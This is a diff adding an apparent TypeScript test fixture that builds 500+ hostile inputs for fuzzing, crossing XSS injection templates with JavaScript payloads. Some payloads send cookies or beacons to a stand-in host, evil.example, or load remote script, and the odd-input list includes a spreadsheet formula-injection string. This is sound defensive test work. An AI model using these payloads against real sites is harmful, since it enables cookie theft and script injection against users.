@@ -1,0 +1,70 @@
+/** Strings that try to become more than text: shapes of attack, times what they would run. */
+const run = 'window.ran=1';
+const shapes = [
+  (code: string) => `<script>${code}</script>`,
+  (code: string) => `<img src=x onerror="${code}">`,
+  (code: string) => `"><svg onload=${code}>`,
+  (code: string) => `'><iframe srcdoc="<script>${code}</script>">`,
+  (code: string) => `<a href="javascript:${code}">press</a>`,
+  (code: string) => `javascript:${code}//`,
+  (code: string) => `</textarea><script>${code}</script>`,
+  (code: string) => `<style>@import "https://evil.example/${encodeURIComponent(code)}";</style>`,
+  (code: string) => `<math><mtext><table><mglyph><style><img src onerror=${code}>`,
+  (code: string) => `<details open ontoggle=${code}>`,
+  (code: string) => `{{constructor.constructor('${code}')()}}`,
+  (code: string) => `\${${code}}`,
+  (code: string) => `<!--><img src=x onerror=${code}>-->`,
+  (code: string) => `<body onpageshow=${code}>`,
+  (code: string) => `<form action="https://evil.example"><button formaction="javascript:${code}">x</button></form>`,
+  (code: string) => `<object data="data:text/html,<script>${code}</script>"></object>`,
+  (code: string) => `<link rel=stylesheet href="https://evil.example/x.css?${code}">`,
+  (code: string) => `<base href="https://evil.example/"><p>${code}`,
+  (code: string) => `<meta http-equiv=refresh content="0;url=javascript:${code}">`,
+  (code: string) => `<input autofocus onfocus=${code}>`,
+  (code: string) => `<video><source onerror=${code}></video>`,
+  (code: string) => `\u202e<script>${code}</script>`,
+  (code: string) => `<ScRiPt\n>${code}</sCrIpT\t>`,
+  (code: string) => `&lt;script&gt;${code}&lt;/script&gt;`,
+  (code: string) => `%3Cscript%3E${code}%3C/script%3E`,
+  (code: string) => `]]><script>${code}</script>`,
+];
+const codes = [
+  run,
+  'alert(1)',
+  'alert`1`',
+  'self["ran"]=1',
+  'eval("window.ran=1")',
+  'document.title="ran"',
+  'fetch("https://evil.example/"+document.cookie)',
+  'new Image().src="https://evil.example/?c"',
+  'parent.ran=1',
+  'top.location="https://evil.example"',
+  'import("https://evil.example/x.js")',
+  'setTimeout("window.ran=1")',
+  'window.ran=document.cookie',
+  'navigator.sendBeacon("https://evil.example","x")',
+  'open("https://evil.example")',
+  'document.write("<b>ran")',
+  'Function("window.ran=1")()',
+  'confirm(1)',
+  'prompt(1)',
+  'print()',
+];
+const odd = [
+  '{"__html":"<b>x</b>"}',
+  '__proto__',
+  'constructor',
+  'null',
+  'undefined',
+  'NaN',
+  "=cmd|' /C calc'!A0",
+  '\u0000'.replace('\u0000', '␀'),
+  '👩‍👩‍👧‍👦'.repeat(20),
+  'z̶̢͝a̷l̸g̵o̶'.repeat(20),
+  'x'.repeat(3000),
+];
+
+/** At least 500 of them, all different. */
+export function hostile(): string[] {
+  return [...new Set([...shapes.flatMap((shape) => codes.map((code) => shape(code))), ...odd])];
+}
